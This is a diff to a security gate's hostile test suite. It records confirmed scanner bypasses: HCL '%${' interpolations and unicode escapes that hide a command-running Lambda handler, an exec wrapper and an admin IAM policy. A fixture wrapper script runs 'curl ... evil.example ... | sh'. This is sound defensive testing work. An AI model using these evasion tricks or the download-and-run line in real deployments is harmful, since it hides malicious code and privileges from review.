@@ -5,42 +5,45 @@ stacks a Terraform module deploys (gate.bundle.discovery.terraform_stacks `_READ
 left-out folder holds (gate.bundle.staging.imports `_whole_folder`, `brings_back`).
 
 Each attack is a confirmed problem, marked strict xfail until it is fixed: the tricked
-bundle exits 0 with the hostile harness's policy (checkov off), with no finding of any
-kind (class 2: one warning, "written inline, its resources (AWS::SNS::Topic) are not
-scanned"), where the baseline (the same problem written plainly, in one run) blocks on
-GATE-SLS-001 (a handler running the event's command) or PYSEC-2018-28 (requests 2.19.0,
-high). What lets each through:
+bundle exits 0 with the hostile harness's policy (checkov off), with no blocking finding
+(the allowed ones are named below; a stack written inline is warned "its resources
+(AWS::SNS::Topic) are not scanned"), where the baseline (the same problem written
+plainly, in one run) blocks on GATE-SLS-001 (a handler running the event's command),
+GATE-IAC-018 (a shell wrapper), GATE-IAC-001 (an admin role) or PYSEC-2018-28 (requests
+2.19.0, high). What lets each through:
 
 1. An interpolation written right after a `%` (or a directive right after a `$`).
-   `EXPRESSION` (gate.bundle.discovery.terraform_values, `(?<![$%])[$%]\\{`) takes
-   `%${` for an escape, as it takes `$${` and `%%{`; HCL does not: its template
-   scanner (hclsyntax scan_tokens.rl, `TemplateNotControl = '%' (^'{' | "%{")`) reads
-   a `%` not followed by `{` as a literal `%`, then `${` starts an interpolation, so
-   `# %${base64decode("...")}` is a comment to the gate and, to Terraform, a `#` line
-   that ends where the decoded text's first line break puts it: the rest is more of the
-   template (or of the code). Every judgement "this text holds nothing Terraform
-   inserts" made with `EXPRESSION` is then wrong: (a) a heredoc `template_body`
-   (`_template`: read as YAML, `_inline` warns an SNS topic "not scanned") whose last
-   line is `# %${base64decode("...")}`, the decoded text an `AWS::Lambda::Function`
-   running the event's command under the same `Resources:`; (b) the same line in the
-   file of `templatefile("stack.yaml", {})` (`_renders` finds nothing to render: the
-   file is read as the template, a clean SNS topic); (c) the inline code of an
-   `archive_file`'s `source { content = <<EOT ... }` (terraform `_literal`: taken as the
-   code as written, a harmless handler with a `# %${...}` comment; Terraform writes
-   `app.py` with a second `def handler` running the event's command after it); (d) (a)
-   in an `aws_cloudformation_stack_set`, the inserted text `${file("more.yaml")}`, an
-   indented mapping of the bundle that is no template (not read as IaC). Each exits 0
-   with no finding (the warning of the topic apart), where the same function read from
-   `stack.yaml` whole, or written plainly in the archive's content, blocks
-   (GATE-SLS-001), and where the same heredoc with a plain `${...}` is refused
-   ("values only Terraform inserts": held). `$%{ if ... }` is the same blind spot for
-   directives (seen by Terraform, not by the gate); no trick was built on it, a
+   `EXPRESSION` (gate.bundle.discovery.terraform_values, `(?<![$%])[$%]\\{`) takes `%${`
+   for an escape, as it takes `$${` and `%%{`; HCL does not: its template scanner
+   (hclsyntax scan_tokens.rl, `TemplateNotControl = '%' (^'{' | "%{")`) reads a `%` not
+   followed by `{` as a literal `%`, then `${` starts an interpolation, so `#
+   %${base64decode("...")}` is a comment to the gate and, to Terraform, a `#` line that
+   ends where the decoded text's first line break puts it: the rest is more of the
+   template (or of the code). Every judgement "this text holds nothing Terraform inserts"
+   made with `EXPRESSION` is then wrong: (a) a heredoc `template_body` (`_template`: read
+   as YAML, `_inline` warns an SNS topic "not scanned") whose last line is `#
+   %${base64decode("...")}`, the decoded text an `AWS::Lambda::Function` running the
+   event's command under the same `Resources:`; (b) the same line in the file of
+   `templatefile("stack.yaml", {})` (`_renders` finds nothing to render: the file is read
+   as the template, a clean SNS topic); (c) the inline code of an `archive_file`'s
+   `source { content = <<EOT ... }` (terraform `_literal`: taken as the code as written,
+   a harmless handler with a `# %${...}` comment; Terraform writes `app.py` with a second
+   `def handler` running the event's command after it); (d) (a) in an
+   `aws_cloudformation_stack_set`, the inserted text `${file("more.yaml")}`, an indented
+   mapping of the bundle that is no template (not read as IaC). Each exits 0 with no
+   finding (the topic's warning apart; (c) has GATE-IAC-015, no X-Ray, allowed), where
+   the same function read from `stack.yaml` whole, or written plainly in the archive's
+   content, blocks (GATE-SLS-001), and where the same heredoc with a plain `${...}` is
+   refused ("values only Terraform inserts": held). `$%{ if ... }` is the same blind spot
+   for directives (seen by Terraform, not by the gate); no trick was built on it, a
    directive inserts no text of its own.
 
-2. A quoted `template_body` whose escapes make the gate's text and Terraform's differ.
-   python-hcl2 keeps a quoted string's escapes as written (`\\u0027` is six characters);
-   `_template` judges that raw text, where Terraform undoes the escapes first (the gate
-   undoes them for inline code, terraform `_literal`/`_HCL_ESCAPE`, not here). A
+2. HCL escapes left in the text the gate judges. python-hcl2 keeps a quoted string's
+   escapes as written (`\\u0027` is six characters, `\\u002a` is not `*`), and both places
+   that parse Terraform (gate.bundle.discovery.terraform `_hcl_loads`, gate.rules.context
+   `RuleContext.terraform`) hand that text on; Terraform undoes the escapes first. Only
+   inline code is unescaped (terraform `_literal`, `_HCL_ESCAPE`). First the stack
+   reader: `_template` (terraform_stacks) judges a quoted `template_body` raw. A
    flow-style YAML template in one quoted string: `{'Resources': {'T': {'Type':
    'AWS::SNS::Topic', 'Metadata': {'a': 'x\\u0027}}, \\u0027Fn\\u0027: {...}, ...
    \\u0027b\\u0027: \\u0027z'}}}}`. To the gate, `a`'s single-quoted value runs from `x`
@@ -54,7 +57,18 @@ high). What lets each through:
    (c) in an `awscc_cloudformation_stack`. Each exits 0 with the one warning, where the
    function read from `stack.yaml` blocks (GATE-SLS-001), and where the same template
    with its quotes written plainly (a heredoc) is refused ("written inline and declares
-   AWS::Lambda::Function").
+   AWS::Lambda::Function"). The same raw text reaches the rules: (d) an environment
+   variable named `"AWS_LAMBDA_EXEC_WRAPPE\\u0052"` (a quoted map key, which HCL
+   unescapes) set to `/var/task/wrapper`, a shell script of the function's code: exit 0,
+   only the "not analysed" warning of the script, where `AWS_LAMBDA_EXEC_WRAPPER` written
+   plainly blocks (GATE-IAC-018, the startup rules, gate.rules.iac `startup_findings`);
+   (e) a role policy `jsonencode({... Action = "\\u002a", Resource = "*"})`: exit 0 with
+   GATE-IAC-004 (low, "an IAM action the gate's data does not know", `\\u002a`) and
+   GATE-SLS-010 allowed, where `Action = "*"` blocks (GATE-IAC-001, admin); (f) the same
+   action in an `aws_iam_policy_document`'s `actions` (gate.rules.iam.roles_terraform):
+   the same. (An `Effect = "Allo\\u0077"` still blocks: the rules read any effect but
+   `Deny` as allowing. `runtime = "pyth\\u006fn3.12"` and `handler = "app\\u002ehandler"`
+   still block: the code is scanned all the same.)
 
 3. pbr's code settings read without configparser's interpolation.
    `pbr_code_settings` (gate.bundle.manifests.pbr) reads `[global] setup_hooks` and
@@ -79,10 +93,12 @@ at every `${` not preceded by an odd run of `$` (and a directive at every `%{` n
 preceded by an odd run of `%`), whatever precedes otherwise; better, one scanner for
 HCL templates, shared by `EXPRESSION`'s callers (`_template`, `_renders`, `_literal`,
 `_upload_source`), that follows hclsyntax's `TemplateNotInterp`/`TemplateNotControl`.
-2, judge a quoted `template_body` as Terraform writes it: undo its escapes
-(`_HCL_ESCAPE`, as `_literal` does) before `_template` reads it, the same for every
-quoted text the stack reader judges (a local's value followed by `whole` included); or
-refuse a quoted template that holds any backslash. 3, read `[global]` as pbr does, with
+2, undo the escapes once, where Terraform is parsed: walk python-hcl2's output (both
+`_hcl_loads`'s and `RuleContext.terraform`'s) and undo `_HCL_ESCAPE` in every quoted
+string's literal text (map keys included, never inside `${...}`), so every reader and
+rule sees Terraform's value; `_literal` then has nothing left to do. Short of that,
+refuse a judged text (a `template_body`, an environment variable's name, a policy's
+action or resource) that holds a backslash. 3, read `[global]` as pbr does, with
 interpolation (`parser.items("global")`, and refuse or report a value configparser cannot
 interpolate), and judge each name of the interpolated value; or report any `%` in a
 code setting's raw value.
@@ -95,7 +111,8 @@ Also tried, and the gate held: a layer folder in `.serverless/` spelled
 fix holds); a `templatefile` file whose `$%{ if false }` hides a second topic from
 Terraform (no finding, as Terraform deploys less than the gate reads: not a bypass).
 
-Limits, not bypasses: none new.
+Limits, not bypasses: none new (class 2 (e) and (f) are the reader's, not the IAM
+rules' precision: the rule never sees `*`).
 
 Not covered: override files, `for_each`/`count`, `dynamic` blocks and child modules for
 the stack reader; `aws_cloudformation_stack_instances`; other build backends (flit,
@@ -112,7 +129,16 @@ from pathlib import Path
 
 import pytest
 
-from tests.hostile.conftest import RUNS_EVENT, Layout, each_blocked_or_refused, each_blocks, files
+from tests.hostile.conftest import (
+    RUNS_EVENT,
+    Layout,
+    Sandbox,
+    each_blocked_or_refused,
+    each_blocks,
+    files,
+    zipped,
+)
+from tests.hostile.test_iam import HANDLER, TF
 from tests.hostile.test_review52 import (
     FUNCTION,
     HOOK,
@@ -155,10 +181,10 @@ def archive(content: str) -> str:
 
 
 HARMLESS_WITH_HIDDEN = (
-    "import os\n"
+    "import os\n\n\ndef handler(event, context):\n    return event\n"
     + f'# %${{base64decode("{base64.b64encode(EVIL_HANDLER.encode()).decode()}")}}\n'
-    + "def handler(event, context):\n    return event\n"
 )
+"""A harmless handler; Terraform writes a second `handler` after it, which Python keeps."""
 
 AFTER_A_PERCENT: dict[str, Layout] = {
     "1a-heredoc-template-percent-interpolation": files({"main.tf": stack(heredoc(TOPIC + HIDDEN))}),
@@ -194,12 +220,60 @@ FLOW = (
 """One quoted HCL string: one topic to the gate, topics T and Y and the function Fn to
 Terraform, which reads each `\\u0027` as a quote."""
 
+WRAPPER = '#!/bin/sh\ncurl -s https://evil.example/x | sh\nexec "$@"\n'
+
+
+def wrapped(variable: str) -> Layout:
+    """A Terraform function whose environment is `variable` (an HCL map item), and the
+    shell wrapper `src/wrapper` (mode 755) in its code."""
+    main = (
+        'data "archive_file" "fn" {\n  type = "zip"\n  source_dir = "${path.module}/src"\n'
+        '  output_path = "build/fn.zip"\n}\n'
+        f'resource "aws_lambda_function" "fn" {{\n  function_name = "fn"\n  role = "{ROLE}"\n'
+        '  handler = "app.handler"\n  runtime = "python3.12"\n'
+        "  filename = data.archive_file.fn.output_path\n"
+        f"  environment {{\n    variables = {{\n      {variable}\n    }}\n  }}\n}}\n"
+    )
+
+    def written(sandbox: Sandbox) -> None:
+        sandbox.write("main.tf", main)
+        sandbox.write("src/app.py", HANDLER)
+        sandbox.write("src/wrapper", WRAPPER).chmod(0o755)
+
+    return written
+
+
+ADMIN = (
+    'policy = jsonencode({{Version = "2012-10-17", Statement = [{{Effect = "Allow", '
+    'Action = "{action}", Resource = "*"}}]}})'
+)
+DOCUMENT = (
+    'data "aws_iam_policy_document" "d" {{\n  statement {{\n    actions = ["{action}"]\n'
+    '    resources = ["*"]\n  }}\n}}\n'
+)
+
+
+def admin(policy: str, more: str = "") -> Layout:
+    """A Terraform function (test_iam's `TF`) whose role's inline policy is `policy`."""
+    attached = (
+        f'resource "aws_iam_role_policy" "p" {{\n  role = aws_iam_role.r.id\n  {policy}\n}}\n'
+    )
+    return files({"main.tf": TF + more + attached, "app.zip": zipped({"app.py": HANDLER})})
+
+
 ESCAPED: dict[str, Layout] = {
     "2a-quoted-template-escaped-quotes": files({"main.tf": stack(FLOW)}),
     "2b-quoted-template-in-a-local": files(
         {"main.tf": stack("local.template", more=f"locals {{\n  template = {FLOW}\n}}\n")}
     ),
     "2c-quoted-template-awscc": files({"main.tf": stack(FLOW, kind="awscc_cloudformation_stack")}),
+    "2d-wrapper-variable-name-escaped": wrapped(
+        '"AWS_LAMBDA_EXEC_WRAPPE\\u0052" = "/var/task/wrapper"'
+    ),
+    "2e-admin-action-escaped": admin(ADMIN.format(action="\\u002a")),
+    "2f-admin-document-action-escaped": admin(
+        "policy = data.aws_iam_policy_document.d.json", DOCUMENT.format(action="\\u002a")
+    ),
 }
 
 # --- 3. pbr's code settings read without interpolation -------------------------------------
@@ -229,6 +303,15 @@ BASELINES: dict[str, tuple[Layout, str]] = {
         "GATE-SLS-001",
     ),
     "1-archive-content-plain": (files({"main.tf": archive(RUNS_EVENT)}), "GATE-SLS-001"),
+    "2-wrapper-variable": (
+        wrapped('AWS_LAMBDA_EXEC_WRAPPER = "/var/task/wrapper"'),
+        "GATE-IAC-018",
+    ),
+    "2-admin-action": (admin(ADMIN.format(action="*")), "GATE-IAC-001"),
+    "2-admin-document-action": (
+        admin("policy = data.aws_iam_policy_document.d.json", DOCUMENT.format(action="*")),
+        "GATE-IAC-001",
+    ),
     "3-pbr-requires-dist": (
         pbr(f"{METADATA}requires_dist = {VULNERABLE}\n[files]\nmodules = app\n"),
         "PYSEC-2018-28",
